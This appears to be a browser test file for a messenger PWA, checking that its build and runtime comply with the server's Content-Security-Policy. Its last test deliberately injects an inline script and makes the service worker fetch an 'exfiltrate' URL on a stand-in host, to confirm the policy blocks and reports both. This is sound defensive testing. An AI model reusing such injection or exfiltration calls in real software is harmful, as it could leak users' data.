/**
 * The PWA under the server's Content-Security-Policy, in Chromium: the built index.html, service worker and
 * bundles hold nothing the policy forbids (inline scripts, styles or handlers, string evaluation); the app
 * registers, connects its WebSocket, runs libsodium's WebAssembly in the page and in the service worker, and
 * handles a push without a single violation; libsodium's WebAssembly is a file of its own (precached, streamed, cached
 * for good), not base64 inside a script; and the harness really catches violations in pages and in the
 * service worker, so every browser test (which fails on any) would notice one.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';

import {
  ROOT,
  UI_TIMEOUT,
  buildPwaIfStale,
  launchProfile,
  register,
  startServer,
  takeCspViolations,
  type Profile,
  type TestServer,
} from './support/harness.js';
import { pushAndWaitForNotification } from './support/inspect.js';

const SLOW = 240_000;
const DIST = join(ROOT, 'apps/pwa/dist');

let server: TestServer;
let profile: Profile | undefined;

beforeAll(async () => {
  buildPwaIfStale();
  server = await startServer();
}, SLOW);

afterEach(() => {
  expect(takeCspViolations()).toEqual([]);
});

afterAll(async () => {
  await profile?.close();
  await server?.close();
  expect(takeCspViolations()).toEqual([]);
}, SLOW);

describe('Cove PWA under its Content-Security-Policy', () => {
  it('should build pages and scripts with nothing the policy forbids', () => {
    const html = readFileSync(join(DIST, 'index.html'), 'utf8');
    const scripts = [...html.matchAll(/<script\b[^>]*>/gi)].map((m) => m[0]);
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter((tag) => !/\ssrc="\/[^"]+"/.test(tag))).toEqual([]);
    expect(html).not.toMatch(/<style\b/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/\sstyle\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
    const bundles = [
      'sw.js',
      ...readdirSync(join(DIST, 'assets'))
        .filter((f) => f.endsWith('.js'))
        .map((f) => `assets/${f}`),
    ];
    for (const file of bundles) {
      const code = readFileSync(join(DIST, file), 'utf8');
      expect({ file, evaluatesStrings: /\bnew Function\s*\(|(?<![.\w$])eval\s*\(/.test(code) }).toEqual({
        file,
        evaluatesStrings: false,
      });
    }
  });

  it(
    'should register, connect and decrypt a push in the service worker without a violation',
    async () => {
      profile = await launchProfile('csp', server.url);
      const response = await profile.page.goto(server.url);
      expect(response?.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
      const socket = profile.page.waitForEvent('websocket', { timeout: UI_TIMEOUT });
      await register(profile.page, `csp_${Math.random().toString(36).slice(2, 8)}`);
      // The WebSocket to this origin is allowed by connect-src 'self' and talks: the server's first frame arrives.
      const ws = await socket;
      expect(new URL(ws.url()).pathname).toBe('/v1/websocket');
      if (!ws.isClosed()) await ws.waitForEvent('framereceived', { timeout: UI_TIMEOUT });
      await profile.page.evaluate(async () => {
        await navigator.serviceWorker.ready;
      });
      const sw = await profile.page.request.get(`${server.url}/sw.js`);
      expect(sw.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
      // A push makes the service worker open the vault and run libsodium under the worker's own policy.
      await pushAndWaitForNotification(profile.context, server.url, () => true, UI_TIMEOUT);
    },
    SLOW,
  );

  it(
    "should load libsodium's WebAssembly as its own cached file, streamed, and keep it and the core out of the first screen",
    async () => {
      const page = profile?.page;
      if (!page) throw new Error('the previous test leaves a registered profile');
      const assets = readdirSync(join(DIST, 'assets'));
      const wasm = assets.filter((f) => /^libsodium-sumo-[\w-]+\.wasm$/.test(f));
      expect(wasm).toHaveLength(1);
      const path = `/assets/${wasm[0] ?? ''}`;
      // "AGFzbQEAAAA" is the base64 of a WebAssembly header: no script carries libsodium's binary any more. The one
      // script that inlines WebAssembly is OPAQUE's (wasm-bindgen's `opaque_bg`), loaded only by the password screens.
      for (const file of assets.filter((f) => f.endsWith('.js'))) {
        const code = readFileSync(join(DIST, 'assets', file), 'utf8');
        if (!code.includes('AGFzbQEAAAA')) continue;
        expect({ file, opaque: code.includes('opaque_bg'), libsodium: code.includes('crypto_scalarmult') }).toEqual({
          file,
          opaque: true,
          libsodium: false,
        });
      }
      // The first screen's scripts carry neither libsodium nor the messenger core (they load while the list shows).
      const html = readFileSync(join(DIST, 'index.html'), 'utf8');
      const firstScreen = [...html.matchAll(/(?:src|href)="\/(assets\/[^"]+\.js)"/g)].map((m) => m[1] ?? '');
      expect(firstScreen.length).toBeGreaterThan(0);
      for (const file of firstScreen) {
        const code = readFileSync(join(DIST, file), 'utf8');
        expect({
          file,
          libsodium: code.includes('crypto_scalarmult'),
          core: code.includes('outbox pass failed'),
          wasm: code.includes('AGFzbQEAAAA'),
        }).toEqual({
          file,
          libsodium: false,
          core: false,
          wasm: false,
        });
      }
      // Precached by the service worker, served with the type streaming compilation needs, cached for good.
      expect(readFileSync(join(DIST, 'sw.js'), 'utf8')).toContain(path.slice(1));
      const served = await page.request.get(`${server.url}${path}`);
      expect(served.status()).toBe(200);
      expect(served.headers()['content-type']).toBe('application/wasm');
      expect(served.headers()['cache-control']).toContain('immutable');
      // The registered page fetched exactly that file for its libsodium.
      const fetched = await page.evaluate(() =>
        performance.getEntriesByType('resource').map((entry) => new URL(entry.name).pathname),
      );
      expect(fetched).toContain(path);
    },
    SLOW,
  );

  it(
    'should catch violations in pages and in the service worker',
    async () => {
      const page = profile?.page;
      const worker = profile?.context.serviceWorkers()[0];
      if (!page || !worker) throw new Error('the previous test leaves a profile with an active service worker');
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.injected = true';
        document.head.append(script);
      });
      // (DevTools evaluation is exempt from script-src, not from connect-src.)
      const fetched = await worker.evaluate(async () => {
        try {
          await fetch('https://elsewhere.invalid/exfiltrate');
          return 'sent';
        } catch (error) {
          return (error as Error).name;
        }
      });
      expect(fetched).toBe('TypeError');
      // Reports travel on their own: wait for both, then leave nothing behind for the afterEach check.
      const seen: string[] = [];
      const deadline = Date.now() + UI_TIMEOUT;
      const caught = () =>
        seen.some((v) => v.includes('script-src-elem') && !v.includes('sw.js')) &&
        seen.some((v) => v.includes('sw.js') && v.includes('connect-src'));
      while (!caught() && Date.now() < deadline) {
        seen.push(...takeCspViolations());
        await new Promise((r) => setTimeout(r, 100));
      }
      expect(caught()).toBe(true);
      expect(await page.evaluate(() => (globalThis as { injected?: boolean }).injected)).toBeUndefined();
    },
    SLOW,
  );
});
